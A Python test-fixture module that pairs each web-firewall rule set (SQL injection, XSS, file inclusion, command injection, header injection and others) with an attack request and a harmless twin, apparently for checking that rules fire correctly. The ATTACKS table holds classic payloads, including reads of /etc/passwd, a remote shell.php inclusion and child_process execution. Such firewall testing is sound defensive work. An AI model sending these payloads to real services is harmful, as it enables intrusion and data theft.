# Copyright: (c) 2026, The pingpong.platform maintainers
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)

"""For each preconfigured rule set an attack that its first signatures name, and a twin that differs in that alone.

Each is a request that does nothing to a service that ignores its parameters; sources: the rules of the same names in
the OWASP core rule set, paranoia level 1.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field


@dataclass(frozen=True, slots=True)
class Request:
    """What is sent: ``query`` is percent-encoded."""

    query: str = ""
    method: str = "GET"
    headers: Mapping[str, str] = field(default_factory=dict)


@dataclass(frozen=True, slots=True)
class Pair:
    """An attack and its twin."""

    attack: Request
    twin: Request


def _parameter(name: str, attack: str, twin: str) -> Pair:
    return Pair(Request(f"{name}={attack}"), Request(f"{name}={twin}"))


ATTACKS: Mapping[str, Pair] = {
    "sqli": _parameter("id", "1%27%20OR%20%271%27%3D%271%27%20--%20", "1"),
    "xss": _parameter("q", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "script"),
    "lfi": _parameter("file", "..%2F..%2F..%2F..%2Fetc%2Fpasswd", "readme.txt"),
    "rfi": _parameter("page", "http%3A%2F%2F192.0.2.1%2Fshell.php%3F", "home"),
    "rce": _parameter("host", "%3B%20cat%20%2Fetc%2Fpasswd", "localhost"),
    "php": _parameter("name", "%3C%3Fphp%20phpinfo()%3B%20%3F%3E", "php"),
    "nodejs": _parameter("name", "require(%27child_process%27).exec(%27id%27)", "child"),
    "java": _parameter("class", "java.lang.Runtime.getRuntime().exec(1)", "coffee"),
    "sessionfixation": _parameter("text", "document.cookie%3B%20domain%3D.example.com", "cookie"),
    "protocolattack": _parameter("next", "%2F%0D%0ASet-Cookie%3A%20session%3D1", "%2F"),
    "scannerdetection": Pair(
        Request(headers={"User-Agent": "sqlmap/1.8"}), Request(headers={"User-Agent": "curl/8.0"})
    ),
    "methodenforcement": Pair(Request(method="PUT"), Request()),
}


def rule_set_of(name: str) -> str:
    """``sqli`` of ``sqli-v33-stable``."""
    return name.partition("-")[0]
